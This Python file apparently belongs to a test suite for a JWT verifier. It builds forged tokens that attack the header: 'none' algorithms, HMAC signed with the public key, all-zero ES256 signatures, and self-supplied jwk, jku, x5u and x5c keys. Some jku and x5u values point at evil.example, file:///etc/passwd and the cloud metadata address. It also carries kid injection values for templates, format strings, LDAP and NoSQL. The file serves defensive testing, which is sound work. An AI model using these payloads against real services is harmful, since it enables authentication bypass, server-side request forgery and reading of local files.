"""Attacks through the header: the algorithm it proposes, and keys it brings or points to."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from datetime import timedelta
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, ed25519
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from cryptography.x509.oid import NameOID
from token_mint import KID, NOW, Attack, Mint, b64, claims, jwk


def head(**changes: Any) -> Attack:
    """Change members of the header, under a genuine signature."""
    return lambda mint, kind: mint.sign(json.dumps(claims(kind)), **changes)


def _signing_input(kind: str, **header: Any) -> str:
    text = json.dumps({"typ": "JWT", "kid": KID, **header})
    return f"{b64(text.encode())}.{b64(json.dumps(claims(kind)).encode())}"


def _hmac(digest: str, encoding: Encoding, form: PublicFormat) -> Attack:
    """The public key, which everybody has, as the secret of an HMAC (CVE-2015-9235)."""

    def make(mint: Mint, kind: str) -> str:
        signed = _signing_input(kind, alg=f"HS{digest}")
        secret = mint.public(encoding, form)
        made = hmac.new(secret, signed.encode(), getattr(hashlib, f"sha{digest}")).digest()
        return f"{signed}.{b64(made)}"

    return make


def _hmac_with(secret: bytes) -> Attack:
    def make(_mint: Mint, kind: str) -> str:
        signed = _signing_input(kind, alg="HS256")
        return f"{signed}.{b64(hmac.new(secret, signed.encode(), hashlib.sha256).digest())}"

    return make


def _unsigned(algorithm: str) -> Attack:
    """No signature but a byte, as an empty one falls already over its form."""
    return lambda _mint, kind: f"{_signing_input(kind, alg=algorithm)}.AA"


def _es256(_mint: Mint, kind: str) -> str:
    key = ec.generate_private_key(ec.SECP256R1())
    signed = _signing_input(kind, alg="ES256")
    r, s = decode_dss_signature(key.sign(signed.encode(), ec.ECDSA(hashes.SHA256())))
    return f"{signed}.{b64(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"


def _eddsa(_mint: Mint, kind: str) -> str:
    signed = _signing_input(kind, alg="EdDSA")
    return f"{signed}.{b64(ed25519.Ed25519PrivateKey.generate().sign(signed.encode()))}"


def _stranger(**brings: Any) -> Attack:
    """A stranger signs, and the header says where to find the stranger's key."""
    return lambda _mint, kind: STRANGER.sign(json.dumps(claims(kind)), **brings)


def own_certificate(owner: Mint) -> str:
    """A certificate in Microsoft's name that somebody made for a key, in the form of ``x5c``."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "login.microsoftonline.com")])
    made = (
        x509.CertificateBuilder(name, name, owner.key.public_key(), 1, NOW, NOW + timedelta(9))
        .sign(owner.key, hashes.SHA256())
        .public_bytes(Encoding.DER)
    )
    return base64.b64encode(made).decode()


STRANGER = Mint()
_JWK = jwk(STRANGER.key.public_key())
_SPKI, _PKCS1, _SSH = (
    PublicFormat.SubjectPublicKeyInfo,
    PublicFormat.PKCS1,
    PublicFormat.OpenSSH,
)

HEADER: dict[str, tuple[str, Attack]] = {
    # The algorithm
    **{
        f"alg {name!r} without a signature": ("algorithm", _unsigned(name))
        for name in ("none", "None", "NONE", "nOnE", "none ", "\u0000none", "noone", "")
    },
    **{
        f"alg {name!r}": ("algorithm", head(alg=name))
        for name in ("RS256\0", "RS256\n", " RS256", "Rs256", "RSA256", "SHA256withRSA", "RS1",
                     "RSA1_5", "RSA-OAEP", "dir", "ES256K", "RS256,none", "\uff32S256", True, 256,
                     {"name": "RS256"})
    },
    "HS256 with the key for SSH (CVE-2022-29217)": (
        "algorithm", _hmac("256", Encoding.OpenSSH, _SSH)),
    "HS384 with the key as PEM": ("algorithm", _hmac("384", Encoding.PEM, _SPKI)),
    "HS512 with the key as PKCS#1": ("algorithm", _hmac("512", Encoding.PEM, _PKCS1)),
    "HS256 with the key's id": ("algorithm", _hmac_with(KID.encode())),
    "HS256 with the word secret": ("algorithm", _hmac_with(b"secret")),
    "HS256 with what is in /dev/null": ("algorithm", _hmac_with(b"")),
    "ES256 with a key of its own": ("algorithm", _es256),
    "ES256 of zeros (CVE-2022-21449)": (
        "algorithm", lambda _m, k: f"{_signing_input(k, alg='ES256')}.{b64(bytes(64))}"),
    "EdDSA with a key of its own": ("algorithm", _eddsa),
    "PBES2 with a million turns": ("algorithm", head(alg="PBES2-HS256+A128KW", p2c=10**6)),
    # Keys of its own: all of these are signed well, by the wrong person
    "its own key as jwk (CVE-2018-0114)": ("header", _stranger(jwk=_JWK)),
    "its own key as jwk, with the known id": ("header", _stranger(jwk=_JWK, kid=KID)),
    "jku to its own set": ("header", _stranger(jku="https://evil.example/keys")),
    "jku to a local file": ("header", _stranger(jku="file:///etc/passwd")),
    "jku inside the network": ("header", _stranger(jku="http://169.254.169.254/latest/")),
    "jku with Microsoft's host as user": (
        "header", _stranger(jku="https://login.microsoftonline.com@evil.example/keys")),
    "jku as data": ("header", _stranger(jku='data:application/json,{"keys":[]}')),
    "x5u to its own certificate": ("header", _stranger(x5u="https://evil.example/c.pem")),
    "x5c with its own certificate": ("header", _stranger(x5c=[own_certificate(STRANGER)])),
    "jwk null": ("header", head(jwk=None)),
    "jku empty": ("header", head(jku="")),
    "x5c empty": ("header", head(x5c=[])),
    # Extensions (RFC 7515, 4.1.11; RFC 7797)
    "crit with exp, which is there": ("header", head(crit=["exp"], exp=9999999999)),
    "crit null": ("header", head(crit=None)),
    "crit a text": ("header", head(crit="exp")),
    "b64 true": ("header", head(b64=True)),
    "b64 false, and the claims as they are": (
        "format", lambda m, k: m.seal_segments(
            b64(json.dumps({"alg": "RS256", "kid": KID, "b64": False, "crit": ["b64"]}).encode()),
            json.dumps(claims(k)))),
    # The key's id
    "kid true": ("header", head(kid=True)),
    "kid an object": ("header", head(kid={"$ne": None})),
    "kid a list of ids": ("header", head(kid=[KID, KID])),
    "kid with a line end": ("header", head(kid=f"{KID}\n")),
    "kid with a NUL": ("header", head(kid=f"{KID}\0.pem")),
    "kid with a direction mark": ("header", head(kid=f"\u202e{KID}")),
    "kid of 257 letters": ("header", head(kid="k" * 257)),
    "kid with a space behind": ("key", head(kid=f"{KID} ")),
    "kid in capitals": ("key", head(kid=KID.upper())),
    "kid begins right": ("key", head(kid=KID[:-1])),
    "kid with a wildcard": ("key", head(kid="*")),
    "kid as a name of Python": ("key", head(kid="__class__")),
    "kid as a template": ("key", head(kid="{{7*7}}")),
    "kid as a format": ("key", head(kid="%s%n{0.__class__}")),
    "kid as an address": ("key", head(kid="https://evil.example/key")),
    "kid as a device": ("key", head(kid="/dev/zero")),
    "kid as LDAP": ("key", head(kid="*)(uid=*")),
    "kid of a key in the header's x5t": ("key", head(kid="x", x5t=KID)),
}  # fmt: skip
